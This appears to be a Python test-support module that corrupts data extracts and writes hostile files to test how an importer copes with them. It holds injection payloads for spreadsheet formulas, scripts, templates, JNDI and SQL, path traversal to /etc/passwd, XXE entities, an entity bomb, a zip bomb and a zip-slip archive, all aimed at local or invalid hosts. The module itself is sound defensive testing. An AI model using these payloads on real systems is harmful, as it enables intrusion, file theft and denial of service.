"""Damage to extracts, written by code: to bytes, to columns, to single cells, and whole files made to do harm.

Every damage is given by numbers, so that it can be drawn, shrunk and repeated.
"""

import csv
import io
import json
import zipfile
from collections.abc import Callable, Mapping
from functools import cache, partial
from pathlib import Path
from typing import Any, Final, NamedTuple

import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter
from lxml import etree
from python_calamine import CalamineWorkbook

FORMULAS: Final = (
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1",
)
MARKUP: Final = (
    "<script>alert(1)</script>",
    "{{7*7}}",
    "{% raw %}",
    "[bold]x[/bold]",
    "${jndi:ldap://x}",
    "%s%n",
)
CONTROLS: Final = (
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x9b31m",
    "a\x08\x08b",
    "\u202egnp.exe",
    "\u2028",
    "\x7f",
)
ODD: Final = (
    "",
    " ",
    "NULL",
    "nan",
    "1e309",
    "-0",
    "9" * 400,
    "00/00/0000",
    "31/12/9999",
    "1899-12-31",
    "2024-02-30",
    "2024-13-01T25:61:61Z",
    "45000.999999",
    "\u0661\u0662/\u0660\u0663/\u0662\u0660\u0662\u0664",
    "\ufeffC000001",
    "a\x00b",
    "\U0001f476" * 50,
    "../../etc/passwd",
    "x" * 5_000,
    '{"a": [1, {"b": null}]}',
    "[" * 500,
)
CELLS: Final = (*FORMULAS, *MARKUP, *CONTROLS, *ODD)
FILE_NAMES: Final = (
    "%2e%2e%2f..%2fetc",
    "a\nb",
    "\u202egnp",
    "=cmd|'calc'!A0",
    "-rf",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "\x1b[31mred",
    "x" * 200,
    "\udcff\udcfe",
    "' OR 1=1 --",
    "CON",
)


class Damage(NamedTuple):
    """What was put into which cell: the text that was there before (None: the file has no cell)."""

    before: str | None
    now: str


def _cut(content: bytes, at: int, size: int, other: bytes) -> bytes:
    return content[:at]


def _flip(content: bytes, at: int, size: int, other: bytes) -> bytes:
    changed = bytearray(content)
    for place in range(at, min(at + 1 + size % 7, len(changed))):
        changed[place] ^= 1 << size % 8
    return bytes(changed)


def _insert(content: bytes, at: int, size: int, other: bytes) -> bytes:
    pieces = (b"\x00", b"\xff\xfe", b'"', b",", b"\n", b"<", b"&x;", b"]]>", b"{", b"\xc3", b"\r", b"a" * 300)
    return content[:at] + pieces[size % len(pieces)] + content[at:]


def _delete(content: bytes, at: int, size: int, other: bytes) -> bytes:
    return content[:at] + content[at + size :]


def _repeat(content: bytes, at: int, size: int, other: bytes) -> bytes:
    return content[: at + size] + content[at : at + size] + content[at + size :]


def _splice(content: bytes, at: int, size: int, other: bytes) -> bytes:
    return content[:at] + other[at : at + size] + content[at + size :]


def _swap(content: bytes, at: int, size: int, other: bytes) -> bytes:
    return other


def _behead(content: bytes, at: int, size: int, other: bytes) -> bytes:
    return content.partition(b"\n")[2]


BYTE_DAMAGE: Final[Mapping[str, Callable[[bytes, int, int, bytes], bytes]]] = {
    "cut": _cut,
    "flip": _flip,
    "insert": _insert,
    "delete": _delete,
    "repeat": _repeat,
    "splice": _splice,
    "swap": _swap,
    "behead": _behead,
}


def damage_bytes(path: Path, kind: str, *, at: int, size: int, other: bytes) -> None:
    """Damage a file's bytes at a place; what is past its end is taken from the start again."""
    content = path.read_bytes()
    path.write_bytes(BYTE_DAMAGE[kind](content, at % max(len(content), 1), size, other))


def damage_inside_zip(path: Path, kind: str, *, at: int, size: int, other: bytes) -> None:
    """Damage one file in a workbook, which stays a whole zip."""
    with zipfile.ZipFile(path) as archive:
        entries = [(entry.filename, archive.read(entry)) for entry in archive.infolist()]
    chosen = size % len(entries)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for place, (name, content) in enumerate(entries):
            changed = BYTE_DAMAGE[kind](content, at % max(len(content), 1), size, other)
            archive.writestr(name, changed if place == chosen else content)


def damage_cell(path: Path, pick: int, text: str) -> Damage:
    """Put a text into one cell of a table, one element, one value of an object; the file stays whole."""
    return _CELL_WRITERS[path.suffix](path, pick, text)


def _damage_csv(path: Path, pick: int, text: str) -> Damage:
    rows = _read_rows(path)
    places = [(row, column) for row in range(1, len(rows)) for column in range(len(rows[row]))]
    if not places:
        return Damage(None, text)
    row, column = places[pick % len(places)]
    before, rows[row][column] = rows[row][column], text
    write_rows(path, rows)
    return Damage(before, text)


def _damage_xml(path: Path, pick: int, text: str) -> Damage:
    tree = etree.parse(path)
    leaves = [element for element in tree.iter() if len(element) == 0]
    chosen = leaves[pick % len(leaves)]
    before = chosen.text
    chosen.text = "".join(letter for letter in text if letter >= " " or letter in "\t\r\n")
    tree.write(path, encoding="utf-8", xml_declaration=True)
    return Damage(before, chosen.text or "")


def _damage_json(path: Path, pick: int, text: str) -> Damage:
    document = json.loads(path.read_text(encoding="utf-8"))
    places = list(_list_values(document))
    holder, key = places[pick % len(places)]
    before, holder[key] = holder[key], text
    path.write_text(json.dumps(document), encoding="utf-8")
    return Damage(str(before), text)


def _list_values(value: Any) -> Any:
    keys = value.keys() if isinstance(value, dict) else range(len(value))
    for key in list(keys):
        if isinstance(value[key], dict | list):
            yield from _list_values(value[key])
        else:
            yield value, key


def _damage_workbook(path: Path, pick: int, text: str) -> Damage:
    book = CalamineWorkbook.from_path(path)
    sheets = {name: book.get_sheet_by_name(name).to_python() for name in book.sheet_names}
    places = [
        (name, row, column)
        for name, rows in sheets.items()
        for row in range(1, len(rows))
        for column in range(len(rows[row]))
    ]
    name, row, column = places[pick % len(places)]
    before, sheets[name][row][column] = sheets[name][row][column], text
    write_workbook(path, sheets)
    return Damage(str(before), text)


def write_workbook(path: Path, sheets: Mapping[str, list[list[Any]]]) -> None:
    """Sheets of cells as a workbook, days as days; a text is never taken for a formula."""
    book = xlsxwriter.Workbook(path)
    day = book.add_format({"num_format": "yyyy-mm-dd"})
    for name, rows in sheets.items():
        sheet = book.add_worksheet(name)
        for row, cells in enumerate(rows):
            for column, cell in enumerate(cells):
                if isinstance(cell, str):
                    sheet.write_string(row, column, cell)
                elif hasattr(cell, "year"):
                    sheet.write_datetime(row, column, cell, day)
                else:
                    sheet.write(row, column, cell)
    book.close()


def _damage_parquet(path: Path, pick: int, text: str) -> Damage:
    table = pq.read_table(path)
    rows = [
        {name: None if cell is None else str(cell) for name, cell in row.items()} for row in table.to_pylist()
    ]
    places = [(row, name) for row in range(len(rows)) for name in table.column_names]
    if not places:
        return Damage(None, text)
    row, name = places[pick % len(places)]
    before, rows[row][name] = rows[row][name], text
    schema = pa.schema([(column, pa.string()) for column in table.column_names])
    pq.write_table(pa.Table.from_pylist(rows, schema=schema), path)
    return Damage(before, text)


_CELL_WRITERS: Final[Mapping[str, Callable[[Path, int, str], Damage]]] = {
    ".csv": _damage_csv,
    ".xml": _damage_xml,
    ".json": _damage_json,
    ".xlsx": _damage_workbook,
    ".parquet": _damage_parquet,
}


def _read_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def write_rows(path: Path, rows: list[list[str]]) -> None:
    """Rows as CSV with every cell in quotation marks."""
    content = io.StringIO()
    csv.writer(content, quoting=csv.QUOTE_ALL).writerows(rows)
    path.write_bytes(content.getvalue().encode("utf-8", "surrogatepass"))


def _drop(rows: list[list[str]], column: int) -> None:
    for row in rows:
        del row[column]


def _double(rows: list[list[str]], column: int) -> None:
    for row in rows:
        row.insert(column, row[column])


def _shift_names(rows: list[list[str]], column: int) -> None:
    rows[0] = [*rows[0][column:], *rows[0][:column]]


def _shift_cells(rows: list[list[str]], column: int) -> None:
    for row in rows[1:]:
        row[:] = [*row[column:], *row[:column]]


def _shift_one_row(rows: list[list[str]], column: int) -> None:
    if len(rows) > 1:
        row = rows[1 + column % (len(rows) - 1)]
        row[:] = [*row[column:], *row[:column]]


def _lose_names(rows: list[list[str]], column: int) -> None:
    del rows[0]


def _blank_names(rows: list[list[str]], column: int) -> None:
    rows[0][column] = ""


def _reverse_columns(rows: list[list[str]], column: int) -> None:
    for row in rows:
        row.reverse()


def _double_rows(rows: list[list[str]], column: int) -> None:
    rows += rows[1:]


def _reverse_rows(rows: list[list[str]], column: int) -> None:
    rows[1:] = rows[:0:-1]


COLUMN_DAMAGE: Final[Mapping[str, Callable[[list[list[str]], int], None]]] = {
    "drop": _drop,
    "double": _double,
    "shift names": _shift_names,
    "shift cells": _shift_cells,
    "shift one row": _shift_one_row,
    "lose names": _lose_names,
    "blank names": _blank_names,
    "reverse columns": _reverse_columns,
    "double rows": _double_rows,
    "reverse rows": _reverse_rows,
}
HARMLESS_COLUMN_DAMAGE: Final = ("reverse columns", "double rows", "reverse rows")
"""What leaves every row's meaning as it was."""


def damage_columns(path: Path, kind: str, *, column: int) -> None:
    """Damage the columns or the order of a CSV file."""
    rows = _read_rows(path)
    COLUMN_DAMAGE[kind](rows, column % max(len(rows[0]), 1))
    write_rows(path, rows)


ENCODINGS: Final[Mapping[str, Callable[[str], bytes]]] = {
    "UTF-8 with a mark": lambda text: text.encode("utf-8-sig"),
    "UTF-16 with a mark": lambda text: text.encode("utf-16"),
    "UTF-16 without a mark": lambda text: text.encode("utf-16-le"),
    "UTF-32": lambda text: text.encode("utf-32"),
    "Windows-1252": lambda text: text.encode("cp1252", "replace"),
    "Latin-1 with a pound sign": lambda text: text.encode("latin-1", "replace") + b"\xa3",
    "old Macintosh lines": lambda text: text.replace("\r\n", "\n").replace("\n", "\r").encode(),
    "UTF-7": lambda text: text.encode("utf-7", "replace"),
    "EBCDIC": lambda text: text.encode("cp500", "replace"),
}


def reencode(path: Path, encoding: str) -> None:
    """Write a text file in another encoding."""
    path.write_bytes(ENCODINGS[encoding](path.read_bytes().decode("utf-8")))


def _zip(entries: Mapping[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, inside in entries.items():
            archive.writestr(name, inside)
    return content.getvalue()


def _bomb() -> bytes:
    sheet = b"<worksheet><sheetData>" + b"<row/>" * 3_000_000
    return _zip(
        {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>", "xl/worksheets/sheet1.xml": sheet}
    )


_LAUGHS: Final = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def _entity_files() -> dict[str, bytes]:
    found = {}
    for name, declared in {
        "entity bomb": f'<!ENTITY l0 "ha">{_LAUGHS}<!ENTITY x "&l9;">',
        "external file": '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "external address": '<!ENTITY x SYSTEM "http://127.0.0.1:PORT/x">',
        "parameter entity": '<!ENTITY % p SYSTEM "http://127.0.0.1:PORT/x"> %p;',
    }.items():
        root = "Message"
        found[name] = f"<?xml version='1.0'?><!DOCTYPE {root} [{declared}]><{root}>&x;</{root}>".encode()
    found["external type"] = (
        b'<?xml version="1.0"?><!DOCTYPE Message SYSTEM "http://127.0.0.1:PORT/x.dtd"><Message/>'
    )
    found["stylesheet"] = b'<?xml-stylesheet href="http://127.0.0.1:PORT/x.xsl"?><Message/>'
    found["inclusion"] = (
        b'<Message xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></Message>'
    )
    return found


WHOLE_FILES: Final[Mapping[str, Callable[[], bytes]]] = {
    "empty": lambda: b"",
    "blanks": lambda: b" \n" * 1000,
    "nought bytes": lambda: b"\x00" * 100_000,
    "a mark alone": lambda: b"\xef\xbb\xbf",
    "a cell of 10 MB": lambda: b"child_id,family_id\n" + b"x" * (10 << 20) + b",1\n",
    "a name of 10 MB": lambda: b"x" * (10 << 20) + b"\n1\n",
    "200,000 columns": lambda: b"a," * 200_000 + b"\n" + b"1," * 200_000 + b"\n",
    "an endless quotation": lambda: b'child_id,family_id\n"' + b"x,\n" * (2 << 20),
    "JSON 100,000 deep": lambda: b"[" * 100_000 + b"]" * 100_000,
    "objects 100,000 deep": lambda: b'{"la_child_id":' * 100_000,
    "XML 100,000 deep": lambda: b"<Message>" * 100_000 + b"</Message>" * 100_000,
    "a text of 20 MB": lambda: b"<Message>" + b"x" * (20 << 20) + b"</Message>",
    "an attribute of 20 MB": lambda: b'<Message a="' + b"x" * (20 << 20) + b'"/>',
    "a zip bomb": _bomb,
    "a zip that leads outside": lambda: _zip({"../../xl/evil": b"x", "xl/workbook.xml": b"<x/>"}),
    "a zip of nothing": lambda: _zip({}),
    "an old workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 10_000,
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40,
    "a PDF": lambda: b"%PDF-1.7\n" + b"1 0 obj <<>> endobj\n" * 100,
    "a web page": lambda: b"<!DOCTYPE html><html><body>Please log in</body></html>",
    "an executable": lambda: b"\x7fELF" + bytes(range(256)) * 40,
    **{name: partial(bytes, content) for name, content in _entity_files().items()},
}


def write_whole_file(path: Path, name: str, *, port: int) -> None:
    """One of WHOLE_FILES in the place of a file; whatever it would fetch lies at this port of this machine."""
    path.write_bytes(_make_whole_file(name).replace(b"PORT", str(port).encode()))


@cache
def _make_whole_file(name: str) -> bytes:
    return WHOLE_FILES[name]()
